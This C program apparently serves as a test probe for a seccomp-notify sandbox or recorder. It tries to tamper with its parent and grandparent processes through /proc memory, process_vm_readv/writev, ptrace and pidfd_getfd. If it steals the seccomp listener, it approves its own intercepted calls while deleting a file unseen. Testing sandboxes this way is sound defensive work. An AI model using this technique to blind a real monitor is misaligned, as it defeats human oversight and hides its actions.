/* Reaches into its parent and its parent's parent, as a command that wants to blind its observer would: `stealing FILE`.
 *
 * Prints what each way gave: a word, and 0 or an errno. Should it get hold of the listener of the filter, it answers its own
 * calls and deletes FILE meanwhile. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/seccomp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define MOST_DESCRIPTORS 256

static void tell(const char *whose, const char *way, long result)
{
    printf("%s %s %d\n", whose, way, result < 0 ? errno : 0);
    fflush(stdout);
}

static pid_t parent_of(pid_t pid)
{
    char path[64], text[1024];
    int parent = 0;
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    FILE *file = fopen(path, "re");
    size_t got = file ? fread(text, 1, sizeof text - 1, file) : 0;
    text[got] = 0;
    if (file)
        fclose(file);
    const char *end = strrchr(text, ')');
    return end && sscanf(end, ") %*c %d", &parent) == 1 ? parent : 0;
}

static int is_listener(int fd)
{
    char path[64], target[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    ssize_t length = readlink(path, target, sizeof target - 1);
    target[length > 0 ? length : 0] = 0;
    return strcmp(target, "anon_inode:seccomp notify") == 0;
}

/* The listener, or -1 with the last errno that was not about an empty number. */
static int take_listener(const char *whose, pid_t pid)
{
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0), why = EBADF, listener = -1;
    for (int number = 0; number < MOST_DESCRIPTORS && listener < 0; number++) {
        int taken = (int)syscall(SYS_pidfd_getfd, pidfd, number, 0);
        if (taken < 0 && errno != EBADF)
            why = errno;
        else if (taken >= 0)
            why = 0;
        if (taken >= 0 && is_listener(taken))
            listener = taken;
        else if (taken >= 0)
            close(taken);
    }
    close(pidfd);
    errno = why;
    tell(whose, "pidfd_getfd", why ? -1 : 0);
    return listener;
}

static void answer_in_its_place(int listener, const char *file)
{
    pid_t child = fork();
    if (child == 0)
        _exit(unlink(file) ? 1 : 0);
    for (int left = 20000; left > 0; left--) {
        struct seccomp_notif notif = {0};
        struct seccomp_notif_resp answer = {.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
        if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &notif) == 0) {
            answer.id = notif.id;
            ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &answer);
            if ((pid_t)notif.pid == child && notif.data.nr == SYS_exit_group)
                return;
        }
    }
}

static void reach(const char *whose, pid_t pid)
{
    char path[64];
    static char here[8];
    struct iovec ours = {here, sizeof here}, theirs = {(void *)(uintptr_t)4096, sizeof here};
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int fd = open(path, O_RDWR | O_CLOEXEC);
    tell(whose, "mem", fd);
    if (fd >= 0)
        close(fd);
    snprintf(path, sizeof path, "/proc/%d/fd/1", pid);
    fd = open(path, O_WRONLY | O_CLOEXEC);
    tell(whose, "fd", fd);
    if (fd >= 0)
        close(fd);
    tell(whose, "process_vm_readv", process_vm_readv(pid, &ours, 1, &theirs, 1, 0));
    tell(whose, "process_vm_writev", process_vm_writev(pid, &ours, 1, &theirs, 1, 0));
    long seized = ptrace(PTRACE_SEIZE, pid, 0, 0);
    tell(whose, "ptrace", seized);
    /* A tracer that only seizes stops nobody; its end lets go. */
}

int main(int argc, char **argv)
{
    if (argc != 2)
        return 2;
    pid_t parent = getppid(), recorder = parent_of(parent);
    reach("parent", parent);
    reach("recorder", recorder);
    (void)take_listener("recorder", recorder);
    int listener = take_listener("parent", parent);
    if (listener >= 0)
        answer_in_its_place(listener, argv[1]);
    return 0;
}
